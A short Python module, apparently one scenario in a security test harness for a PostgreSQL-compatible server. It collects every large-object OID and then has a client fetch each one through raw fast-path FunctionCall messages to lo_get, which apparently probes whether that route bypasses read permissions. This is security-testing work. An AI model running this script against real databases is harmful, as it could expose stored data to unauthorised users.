"""Reads large objects by the fast path, as drivers do."""

import struct

from attacks.frames import ask, message
from attacks.talking import Server

WANTS = "read"


def attack(server: Server) -> bytes:
    with server.login() as client:
        with server.connect() as session:
            rows = session.execute("SELECT oid::bigint FROM pg_largeobject_metadata").fetchall()
        calls = [_get(int(str(oid))) for (oid,) in rows]
        return ask(client, *calls, rounds=len(calls))


def _get(image: int) -> bytes:
    """A FunctionCall of lo_get(oid)."""
    call = struct.pack("!IHHHII", 3458, 1, 1, 1, 4, image) + struct.pack("!H", 1)
    return message(b"F", call)
